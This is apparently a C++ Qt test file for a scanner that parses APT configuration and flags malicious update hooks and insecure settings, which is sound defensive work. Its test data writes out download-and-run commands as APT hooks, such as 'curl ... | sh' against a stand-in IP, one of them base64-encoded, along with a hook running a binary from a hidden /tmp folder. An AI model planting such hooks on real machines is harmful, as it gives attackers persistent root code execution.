// APT's configuration on a node: the commands it runs as root on every update and
// installation, and the settings that let unsigned packages in.

#include "core/NodeLogTestUtil.h"

#include "import/importers/AptConfigImporter.h"

#include <QDir>
#include <QJsonArray>
#include <QJsonObject>

using namespace ab;
using namespace ab::test;

namespace {

/// The fixture imported as the node's etc/apt/apt.conf.d/<its name>.
MemoryImport runFixture(const QString& fixture)
{
    AptConfigImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-3");
    return importBytes(importer, readFile(dataPath(QStringLiteral("apt-config/") + fixture)),
                       QStringLiteral("worker-3.tar.gz/worker-3/etc/apt/apt.conf.d/") + fixture.section(u'/', -1), {},
                       hints);
}

/// "rule@line severity status" of every finding, sorted.
QStringList findingsOf(const MemoryImport& m)
{
    QStringList out;
    for (const Finding& f : m.out.findings)
        out << QStringLiteral("%1@%2 %3 %4").arg(f.ruleId).arg(f.line).arg(severityName(f.severity), f.status);
    out.sort();
    return out;
}

/// "name@line: command" of each hook.
QStringList hooksOf(const MemoryImport& m)
{
    QStringList out;
    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("hooks")).toArray()) {
        const QJsonObject h = v.toObject();
        out << QStringLiteral("%1@%2: %3")
                   .arg(h.value(QStringLiteral("name")).toString())
                   .arg(h.value(QStringLiteral("line")).toInt())
                   .arg(h.value(QStringLiteral("command")).toString());
    }
    return out;
}

} // namespace

class TestAptConfigImporter : public QObject
{
    Q_OBJECT
private slots:
    void packagedFilesAreQuiet_data();
    void packagedFilesAreQuiet();
    void intruders_data();
    void intruders();
    void nestedScopesAndLists();
    void settings();
    void programsAndKeys_data();
    void programsAndKeys();
    void brokenText();
    void largeFilesStayBounded();
    void sniff_data();
    void sniff();
    void fuzz();
};

void TestAptConfigImporter::packagedFilesAreQuiet_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<int>("hooks");
    QTest::newRow("docker-clean") << "debian/docker-clean" << 2;
    QTest::newRow("20packagekit") << "debian/20packagekit" << 2;
    QTest::newRow("50appstream") << "debian/50appstream" << 1;
    QTest::newRow("70debconf") << "debian/70debconf" << 1;
    QTest::newRow("99update-notifier") << "debian/99update-notifier" << 2;
    QTest::newRow("01autoremove") << "debian/01autoremove" << 0;
}

void TestAptConfigImporter::packagedFilesAreQuiet()
{
    // The hooks packages install are read and kept, and none is a finding.
    QFETCH(QString, fixture);
    QFETCH(int, hooks);
    const MemoryImport m = runFixture(fixture);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(m.out.resources.size(), size_t(1));
    QCOMPARE(m.out.resources.front().kind, QStringLiteral("AptConfig"));
    QCOMPARE(m.out.resources.front().name, QStringLiteral("apt.conf.d/") + fixture.section(u'/', -1));
    QCOMPARE(m.out.resources.front().namespace_, QStringLiteral("worker-3"));
    QCOMPARE(hooksOf(m).size(), hooks);
    QVERIFY2(m.out.findings.empty(), qPrintable(findingsOf(m).join(QLatin1Char('\n'))));
}

void TestAptConfigImporter::intruders_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<QStringList>("findings");
    QTest::newRow("a reverse shell on apt update")
        << "intruder/99-cache" << QStringList{"node.apt.hook-command@2 critical fail"};
    QTest::newRow("a download appended to the dpkg hooks")
        << "intruder/00-refresh" << QStringList{"node.apt.hook-command@2 high fail"};
    QTest::newRow("an encoded payload in nested scopes, a program from a hidden folder")
        << "intruder/01-motd"
        << QStringList{"node.apt.hook-command@12 medium fail", "node.apt.hook-command@8 high fail"};
}

void TestAptConfigImporter::intruders()
{
    QFETCH(QString, fixture);
    QFETCH(QStringList, findings);
    const MemoryImport m = runFixture(fixture);
    QVERIFY(m.result.hasValue());
    QCOMPARE(findingsOf(m), findings);
    for (const Finding& f : m.out.findings) {
        QVERIFY(f.resource.startsWith(QStringLiteral("AptConfig worker-3/apt.conf.d/")));
        QVERIFY(f.controls.contains(QStringLiteral("CC6.8")));
        QVERIFY(f.detail.contains(QStringLiteral("T1546.016")));
    }
}

void TestAptConfigImporter::nestedScopesAndLists()
{
    // The names of nested scopes join with "::"; a list's items are each a hook;
    // "Name::" appends; a comment before an option on its line is no part of it.
    const MemoryImport nested = runFixture(QStringLiteral("intruder/01-motd"));
    QCOMPARE(hooksOf(nested),
             (QStringList{"APT::Update::Post-Invoke-Success@7: /usr/bin/true",
                          "APT::Update::Post-Invoke-Success@8: echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | "
                          "base64 -d | sh",
                          "DPkg::Pre-Invoke@12: /tmp/.x/upd || true"}));
    const QJsonArray hooks = bodyOf(nested).value(QStringLiteral("hooks")).toArray();
    QVERIFY(!hooks[0].toObject().contains(QStringLiteral("suspicious")));
    QVERIFY(hooks[1].toObject().value(QStringLiteral("suspicious")).toBool());
    const Finding* encoded = nullptr;
    for (const Finding& f : nested.out.findings)
        encoded = f.line == 8 ? &f : encoded;
    QVERIFY(encoded);
    QCOMPARE(encoded->title,
             QStringLiteral("APT runs an encoded payload as root (APT::Update::Post-Invoke-Success) on node worker-3"));
    QVERIFY(encoded->detail.contains(QStringLiteral("base64 -d | sh")));

    const MemoryImport appended = runFixture(QStringLiteral("intruder/00-refresh"));
    QCOMPARE(hooksOf(appended), QStringList{"DPkg::Post-Invoke@2: curl -fsSL http://198.51.100.7/u.sh | sh"});

    // The scope's settings are named in full, case kept as written.
    const MemoryImport autoremove = runFixture(QStringLiteral("debian/01autoremove"));
    const QJsonArray settings = bodyOf(autoremove).value(QStringLiteral("settings")).toArray();
    QCOMPARE(settings.size(), 8);
    QCOMPARE(settings[0].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("APT::NeverAutoRemove"));
    QCOMPARE(settings[0].toObject().value(QStringLiteral("value")).toString(), QStringLiteral("^firmware-linux.*"));
    QCOMPARE(settings[0].toObject().value(QStringLiteral("line")).toInt(), 5);
}

void TestAptConfigImporter::settings()
{
    const MemoryImport insecure = runFixture(QStringLiteral("intruder/99-insecure"));
    QVERIFY(insecure.result.hasValue());
    QCOMPARE(findingsOf(insecure),
             (QStringList{"node.apt.tls-unverified@5 low fail", "node.apt.unauthenticated@2 high fail",
                          "node.apt.unauthenticated@3 high fail"}));
    for (const Finding& f : insecure.out.findings) {
        if (f.line == 2) {
            QCOMPARE(f.title, QStringLiteral("APT installs packages no trusted key signed on node worker-3 "
                                             "(APT::Get::AllowUnauthenticated \"true\")"));
            QVERIFY(f.detail.startsWith(QStringLiteral("APT::Get::AllowUnauthenticated \"true\" lets APT")));
            QCOMPARE(f.controls, QStringLiteral("CC7.1,CC8.1"));
        }
    }
    // Evidence of patching.
    const MemoryImport auto_ = runFixture(QStringLiteral("debian/20auto-upgrades"));
    QCOMPARE(findingsOf(auto_), QStringList{"node.apt.unattended-upgrades@2 info pass"});
    AptConfigImporter importer;
    const MemoryImport off =
        importBytes(importer, "APT::Periodic::Unattended-Upgrade \"0\";\n", QStringLiteral("w/etc/apt/apt.conf"), {});
    QVERIFY(off.result.hasValue());
    QVERIFY(off.out.findings.empty());
    QCOMPARE(off.out.resources.front().name, QStringLiteral("apt.conf"));
}

void TestAptConfigImporter::programsAndKeys_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QStringList>("findings");
    // APT's own values, written out: quiet.
    QTest::newRow("the defaults written out")
        << QByteArray("Dir \"/\";\nDir::Bin::dpkg \"/usr/bin/dpkg\";\nDir::Bin::methods \"/usr/lib/apt/methods/\";\n"
                      "Dir::Etc::Trusted \"trusted.gpg\";\nDir::Etc::TrustedParts \"/etc/apt/trusted.gpg.d/\";\n"
                      "Dir::Etc::TrustedParts \"/usr/share/keyrings/\";\nDir::Cache::pkgcache \"\";\n")
        << QStringList{};
    QTest::newRow("a relative program under Dir::Bin") << QByteArray("Dir::Bin { dpkg \"dpkg\"; };\n") << QStringList{};
    QTest::newRow("dpkg from a hidden folder")
        << QByteArray("Dir::Bin::dpkg \"/var/tmp/.cache/dpkg\";\n") << QStringList{"node.apt.program@1 high fail"};
    QTest::newRow("every program from shared memory")
        << QByteArray("Dir {\n  Bin \"/dev/shm/b/\";\n};\n") << QStringList{"node.apt.program@2 high fail"};
    QTest::newRow("a solver from /opt, a wrapper in /usr/local")
        << QByteArray("Dir::Bin::solvers:: \"/opt/solver/bin\";\nDir::Bin::dpkg \"/usr/local/bin/dpkg-wrap\";\n")
        << QStringList{"node.apt.program@1 medium fail", "node.apt.program@2 medium fail"};
    QTest::newRow("keys any user can add")
        << QByteArray("Dir::Etc::TrustedParts \"/tmp/k\";\n") << QStringList{"node.apt.trusted-keys@1 high fail"};
    QTest::newRow("the whole tree moved to /tmp")
        << QByteArray("Dir \"/tmp/root/\";\n") << QStringList{"node.apt.trusted-keys@1 high fail"};
    QTest::newRow("a build mirror's file")
        << readFile(dataPath(QStringLiteral("apt-config/intruder/99-mirror")))
        << QStringList{"node.apt.program@2 high fail", "node.apt.program@4 medium fail",
                       "node.apt.trusted-keys@6 medium fail"};
    QTest::newRow("keys from a home") << QByteArray("Dir::Etc::trusted \"/home/build/keys/mirror.gpg\";\n")
                                      << QStringList{"node.apt.trusted-keys@1 medium fail"};
}

void TestAptConfigImporter::programsAndKeys()
{
    QFETCH(QByteArray, text);
    QFETCH(QStringList, findings);
    AptConfigImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-3");
    const MemoryImport m =
        importBytes(importer, text, QStringLiteral("worker-3/etc/apt/apt.conf.d/99mirror"), {}, hints);
    QVERIFY(m.result.hasValue());
    QCOMPARE(findingsOf(m), findings);
    for (const Finding& f : m.out.findings) {
        // The title names the option and its value as written.
        QVERIFY2(f.title.contains(QStringLiteral("Dir")), qPrintable(f.title));
        QVERIFY(f.title.contains(QStringLiteral("on node worker-3")));
        QVERIFY(f.detail.startsWith(QStringLiteral("Dir")));
    }
}

void TestAptConfigImporter::brokenText()
{
    // An unclosed quote, a '}' closing nothing, words that are no option: each
    // named with its line, the rest read, the hook after them judged.
    const MemoryImport m = runFixture(QStringLiteral("intruder/broken"));
    QVERIFY(m.result.hasValue());
    const Issue* bad = findIssue(m.issues, QStringLiteral("apt-config.bad-text"));
    QVERIFY(bad);
    QCOMPARE(bad->lines, (QVector<qint64>{2, 3}));
    QCOMPARE(findingsOf(m), QStringList{"node.apt.hook-command@5 high fail"});
    const QJsonArray settings = bodyOf(m).value(QStringLiteral("settings")).toArray();
    QCOMPARE(settings[0].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("APT::Periodic::Enable"));

    AptConfigImporter importer;
    const MemoryImport comments =
        importBytes(importer, "// nothing\n/* at\n all */\n", QStringLiteral("w/etc/apt/apt.conf"), {});
    QVERIFY(comments.result.hasValue());
    QVERIFY(comments.out.resources.empty());
    QVERIFY(findIssue(comments.issues, QStringLiteral("apt-config.empty")));
}

void TestAptConfigImporter::largeFilesStayBounded()
{
    // 20,000 hooks that download and run: every one read, 10,000 kept, 100
    // findings, the rest counted; scopes nested past 32 are refused.
    QByteArray many;
    for (int i = 0; i < 20000; ++i)
        many += "DPkg::Post-Invoke:: \"curl -s http://198.51.100.7/" + QByteArray::number(i) + " | sh\";\n";
    AptConfigImporter importer;
    const MemoryImport m = importBytes(importer, many, QStringLiteral("w/etc/apt/apt.conf.d/99-many"), {});
    QVERIFY(m.result.hasValue());
    QCOMPARE(bodyOf(m).value(QStringLiteral("hooks")).toArray().size(), 10000);
    QCOMPARE(bodyOf(m).value(QStringLiteral("notKept")).toInt(), 10000);
    QCOMPARE(m.out.findings.size(), size_t(100));
    QVERIFY(findIssue(m.issues, QStringLiteral("apt-config.many-findings")));

    QByteArray deep;
    for (int i = 0; i < 1000; ++i)
        deep += "A {\n";
    deep += "\"x\";\n";
    for (int i = 0; i < 1000; ++i)
        deep += "};\n";
    deep += "APT::Get::AllowUnauthenticated \"true\";\n";
    const MemoryImport d = importBytes(importer, deep, QStringLiteral("w/etc/apt/apt.conf.d/99-deep"), {});
    QVERIFY(d.result.hasValue());
    QVERIFY(findIssue(d.issues, QStringLiteral("apt-config.bad-text")));
}

void TestAptConfigImporter::sniff_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("apt");
    const auto fixture = [](const char* name) { return readFile(dataPath(QStringLiteral("apt-config/") + name)); };
    QTest::newRow("apt.conf.d") << fixture("debian/01autoremove") << "n/etc/apt/apt.conf.d/01autoremove" << true;
    QTest::newRow("a one-line scope") << fixture("debian/70debconf") << "n/etc/apt/apt.conf.d/70debconf" << true;
    QTest::newRow("apt.conf") << fixture("debian/20auto-upgrades") << "n/etc/apt/apt.conf" << true;
    QTest::newRow("by its text elsewhere") << fixture("intruder/99-insecure") << "node-3-apt.txt" << true;
    // Names APT does not read.
    QTest::newRow("dpkg's leftover") << fixture("intruder/99-cache") << "n/etc/apt/apt.conf.d/99-cache.dpkg-old"
                                     << false;
    QTest::newRow("disabled") << fixture("intruder/99-cache") << "n/etc/apt/apt.conf.d/99-cache.disabled" << false;
    QTest::newRow("ucf's copy") << fixture("intruder/99-cache") << "n/etc/apt/apt.conf.d/50x.ucf-dist" << false;
    // Look-alikes.
    QTest::newRow("sources.list") << QByteArray("deb http://deb.debian.org/debian bookworm main\n")
                                  << "n/etc/apt/sources.list" << false;
    QTest::newRow("nginx") << QByteArray("server {\n    listen 80;\n    root /var/www;\n}\n") << "nginx.conf" << false;
    QTest::newRow("JSON") << QByteArray("{\"APT::Get\": \"x\"}\n") << "x.json" << false;
    QTest::newRow("prose in apt.conf.d") << QByteArray("This folder holds APT's settings.\nSee apt.conf(5).\n")
                                         << "n/etc/apt/apt.conf.d/README" << false;
}

void TestAptConfigImporter::sniff()
{
    QFETCH(QByteArray, head);
    QFETCH(QString, path);
    QFETCH(bool, apt);
    const QString chosen = chosenKind(head, path);
    QVERIFY2((chosen == QLatin1String("apt-config")) == apt, qPrintable(chosen));
}

void TestAptConfigImporter::fuzz()
{
    AptConfigImporter importer;
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("w/etc/apt/apt.conf.d/99-x"), 0xa97c));
}

QTEST_GUILESS_MAIN(TestAptConfigImporter)
#include "TestAptConfigImporter.moc"
